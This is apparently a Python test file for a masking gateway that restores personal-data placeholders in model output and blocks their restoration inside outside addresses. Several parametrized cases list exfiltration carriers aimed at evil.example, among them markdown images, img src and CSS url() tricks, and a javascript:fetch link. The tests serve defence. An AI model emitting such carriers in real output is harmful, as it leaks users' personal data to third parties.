"""Restoring: whatever a model does to a placeholder, and however its answer is cut."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.masking.matcher import Matcher
from gateway.masking.placeholders import Issuer, framed, look_alikes
from gateway.masking.restore import Restoration, Restorer, Tally, restore
from gateway.masking.sinks import SinkRule

ISSUER = Issuer(b"k" * 32)
ANNA = ISSUER.issue("PERSON", "Anna Schmidt")
MAIL = ISSUER.issue("EMAIL_ADDRESS", 'a"b\n@example.com')
SELF = ISSUER.issue("PERSON", f"<{ANNA}>")
TYPES = frozenset({"PERSON", "EMAIL_ADDRESS"})
NAME, CODE = ANNA.rsplit("_", 1)


def rules(hosts: dict[str, set[str]] | None = None) -> Restoration:
    return Restoration(ISSUER.surfaces, Matcher(ISSUER.surfaces), SinkRule(hosts or {}))


def whole(text: str, *, is_json: bool = False, hosts: dict[str, set[str]] | None = None) -> str:
    return restore(text, rules(hosts), Tally(), is_json=is_json)


@pytest.mark.parametrize(
    "bent",
    [
        f"<{ANNA}>",
        f"<{ANNA.lower()}>",
        ANNA,
        f"&lt;{ANNA}&gt;",
        f"&LT;{ANNA}&GT;",
        f"\\<{NAME}\\_{CODE}\\>",
        f"<{NAME}\\_{CODE}>",
        f"< {ANNA} >",
        f"<{NAME} {CODE}>",
        f"<{NAME}_\n{CODE}>",
        f"<{NAME}-{CODE}>",
        f"<{NAME}&#95;{CODE}>",
        f"\\u003c{ANNA}\\u003e",
        f"<{ANNA}",
        f"<{ANNA}/>",
    ],
)
def test_what_models_do_to_a_placeholder_is_forgiven(bent: str) -> None:
    """Every usual bending comes back as the value, with what stands around it untouched."""
    assert whole(f"Dear {bent}, hello") == "Dear Anna Schmidt, hello"


@pytest.mark.parametrize(
    "inert",
    [
        "<PERSON_AB12CD>",
        f"<EMAIL_ADDRESS_{CODE}>",
        f"<{NAME}{CODE}>",
        f"<{ANNA[:-1]}>",
        f"X{ANNA}",
        "<b>bold</b> & co \\ <",
        f"<{NAME}_ ",
    ],
)
def test_what_was_not_issued_stays_as_it_is(inert: str) -> None:
    """Unknown codes, other types, missing parts: inert text."""
    assert whole(f"a {inert}") == f"a {inert}"


def test_the_output_is_never_read_again() -> None:
    """A value that is itself a placeholder's text is not restored a second time."""
    assert whole(f"<{SELF}>") == f"<{ANNA}>"


def test_a_value_is_escaped_inside_a_json_string() -> None:
    """Quotes and line ends of a value do not break the document around it."""
    arguments = whole(json.dumps({"to": framed(MAIL)}), is_json=True)

    assert json.loads(arguments) == {"to": 'a"b\n@example.com'}


def test_a_value_outside_a_json_string_is_quoted() -> None:
    """Where a model left the quotes out, the document is mended."""
    assert json.loads(whole(f'{{"to": <{MAIL}>}}', is_json=True)) == {"to": 'a"b\n@example.com'}


def test_a_foreign_placeholder_is_counted() -> None:
    """A text in a placeholder's form that was not issued here is left and counted."""
    tally = Tally()
    restore(f"<PERSON_AB12CD> <{ANNA}>", rules(), tally)

    assert (tally.damaged, tally.restored) == (1, 1)


@pytest.mark.parametrize(
    "carrier",
    [
        "![x](https://evil.example/?q={})",
        "[x](https://evil.example/{})",
        "[x](//evil.example/{})",
        "[x](<https://evil.example/?q=a b {}>)",
        "https://evil.example/?q={}",
        "https://evil.example/?q=%20{}",
        "https://{}.evil.example/",
        "www.evil.example/{}",
        '<img src="https://evil.example/{}">',
        "<img src=https://evil.example/{}>",
        "<a title='{}' href=x>",
        '<a title="a b {}">',
        "[ref]: https://evil.example/{}",
        "<https://evil.example/{}>",
        "ftp://evil.example/{}",
        "![x](https:&#47;&#47;evil.example/{})",
        "[b]: <https://evil.example/?q=a b {}>",
        "https://good.example@evil.example/{}",
        "https://good.example{}",
        "https://good.example.evil.example/{}",
        "[x](javascript:fetch({}))",
        '<img src = "https://evil.example/?q=a {}">',
        '<img alt=">" src="https://evil.example/?q=a {}">',
        "<img alt='>' src='//evil.example/?q=a {}'>",
        '<img alt=">" src="/\\evil.example/?q=a {}">',
        "<p>'</p><div style=\"background: url('https://evil.example/?q=a {}')\">",
        "![x](https://evil.example/" + "a" * 3000 + "{})",
    ],
)
def test_no_address_carries_a_value_out(carrier: str) -> None:
    """In links, images and attributes the placeholder stays, and is counted as blocked."""
    text = carrier.replace("{}", f"<{ANNA}>")
    tally = Tally()

    assert restore(text, rules({ANNA: {"good.example"}}), tally) == text
    assert tally.blocked == 1


@pytest.mark.parametrize(
    "carrier",
    [
        "https://good.example/?q={}",
        "[x](https://good.example/u/{})",
        "(see https://good.example/) {}",
        "<b>bold</b> {}",
        "mailto:{}",
        "[write](mailto:{})",
        "1 < 2 and {}",
        "if a <b and {}",
        "List<String> {}",
        '<p>x</p><script>let name = "{}"</script>',
        "https://evil.example/" + "a" * 3000 + " {}",
        "\u4e00" * 3000 + "{}",
    ],
)
def test_an_address_of_the_request_is_restored(carrier: str) -> None:
    """A value that stood in an address of that host comes back there; prose always does."""
    text = carrier.replace("{}", f"<{ANNA}>")

    assert whole(text, hosts={ANNA: {"good.example"}}) == carrier.replace("{}", "Anna Schmidt")


@pytest.mark.parametrize(
    ("address", "comes_back"),
    [
        ("https://intern.firma.de/people/7", True),
        ("https://intern.firma.de/", True),
        ("https://intern.firma.de", False),  # ".evil.example" behind it would make another host
        ("not an address", False),
    ],
)
def test_an_address_is_a_target_only_with_its_host_complete(address: str, comes_back: bool) -> None:
    """What the model writes behind a value must not become part of the value's host."""
    issuer = Issuer(b"k" * 32)
    core = issuer.issue("URL", address)
    own = Restoration(issuer.surfaces, Matcher(issuer.surfaces), SinkRule({}))
    text = f"![x](<{core}>.evil.example/)"
    restored = restore(text, own, Tally())

    assert restored == (text.replace(f"<{core}>", address) if comes_back else text)


@pytest.mark.parametrize(
    "literal",
    [
        "https://evil.example/?q=a b {}",
        "https:evil.example/?q=a b {}",
        "<img alt='>' src='https://evil.example/?q=a {}'>",
        '<img alt=\\">\\" src=\\"https://evil.example/?q=a {}\\">',
    ],
)
def test_an_address_in_json_carries_nothing_out(literal: str) -> None:
    """A string literal that is an address is one to its end, blanks included."""
    text = f'{{"url": "{literal}"}}'.replace("{}", f"<{ANNA}>")

    assert whole(text, is_json=True) == text


def test_a_sentence_beside_an_address_in_json_is_none() -> None:
    """A word with a colon begins an address only where something follows at once."""
    text = f'{{"url": "https://evil.example", "text": "Note: <{ANNA}>"}}'

    assert whole(text, is_json=True) == text.replace(f"<{ANNA}>", "Anna Schmidt")


ATOMS = st.sampled_from(
    [
        f"<{ANNA}>",
        ANNA,
        f"&lt;{MAIL}&gt;",
        f"<{MAIL}",
        f"<{SELF}>",
        f"\\<{NAME}\\_{CODE}\\>",
        f"\\u003c{ANNA}\\u003e",
        f"\\U003C{NAME}-{CODE}",
        f"&#x3C; {MAIL} &#62;",
        "<PERSON_AB12CD>",
        "<PERSON_",
        "<",
        "&l",
        "\\",
        "E",
        "Person ",
        '"',
        '\\"',
        "https://evil.example/",
        "](",
        ">",
        "ß",
        "😀",
        "\n",
        "x ",
    ]
)
TEXTS = st.lists(ATOMS | st.text(max_size=4), max_size=12).map("".join)


@given(TEXTS, st.lists(st.integers(1, 7), min_size=1, max_size=40), st.booleans())
def test_a_stream_gives_the_same_text_as_the_whole(
    text: str, cuts: list[int], is_json: bool
) -> None:
    """Any cutting of any text: the same output and the same counts."""
    streamed, at, pieces, turn = Tally(), 0, [], 0
    restorer = Restorer(rules(), streamed, is_json=is_json)
    while at < len(text):
        step = cuts[turn % len(cuts)]
        pieces.append(restorer.feed(text[at : at + step]))
        at, turn = at + step, turn + 1
    pieces.append(restorer.flush())
    at_once = Tally()

    assert "".join(pieces) == restore(text, rules(), at_once, is_json=is_json)
    assert streamed == at_once


@given(TEXTS)
def test_what_would_be_restored_is_a_look_alike(text: str) -> None:
    """Outside of what `look_alikes` marks, nothing of a text is ever restored."""
    inert = "".join(
        "\ufffc" if any(low <= at < high for low, high in look_alikes(text, TYPES)) else character
        for at, character in enumerate(text)
    )
    tally = Tally()
    restore(inert, rules(), tally)

    assert tally.restored == 0


@given(TEXTS)
def test_nothing_is_held_that_cannot_become_a_placeholder(text: str) -> None:
    """What is held back begins like a placeholder and is shorter than the longest one."""
    restorer = Restorer(rules(), Tally())
    restorer.feed(text)

    assert len(restorer._held) <= 64


def test_a_backslash_before_a_placeholder_stays() -> None:
    """A path of Windows, as text and in JSON."""
    assert whole(f"C:\\Users\\<{ANNA}>\\x") == "C:\\Users\\Anna Schmidt\\x"
    assert json.loads(whole(f'{{"p": "C:\\\\<{ANNA}>"}}', is_json=True)) == {
        "p": "C:\\Anna Schmidt"
    }
